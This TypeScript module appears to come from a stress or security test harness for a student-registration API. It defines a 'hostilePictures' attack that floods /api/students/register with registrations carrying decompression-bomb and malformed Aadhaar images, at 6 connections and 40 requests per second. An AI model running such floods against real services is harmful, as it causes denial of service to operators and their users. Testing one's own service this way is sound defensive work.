import { createHostilePictures } from '../../hostile-pictures.ts'
import { encodeForm, fieldsOfPerson } from '../../registration-form.ts'
import type { Attack } from '../attack.ts'
import { emailPlaceholder, withOwnEmail } from '../own-email.ts'
import { encodeRequest, flood } from '../sockets.ts'

/** Whole registrations whose pictures cost more to look at than they are worth. */
export const hostilePictures: Attack = {
  about: 'registrations with bombs, 430,000 empty chunks, slivers and cut pictures',
  async prepare(target) {
    const calls: Buffer[] = []
    for (const aadharFront of Object.values(await createHostilePictures())) {
      const { type, body } = await encodeForm(fieldsOfPerson(emailPlaceholder), { aadharFront })
      calls.push(encodeRequest({ path: '/api/students/register', type, body }))
    }
    let sent = 0
    const next = () => withOwnEmail(calls[sent++ % calls.length] as Buffer, target.random)
    return (tally, signal) =>
      flood(target, { connections: 6, perSecond: 40, next }, { tally, signal })
  },
}
